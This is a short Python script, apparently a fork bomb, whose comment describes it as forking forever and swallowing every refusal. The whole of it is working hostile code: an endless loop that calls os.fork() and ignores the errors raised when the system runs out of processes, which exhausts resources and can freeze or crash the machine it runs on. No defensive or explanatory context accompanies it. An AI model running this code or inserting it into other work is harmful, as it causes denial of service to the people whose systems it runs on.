# Forks for ever and swallows every refusal.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
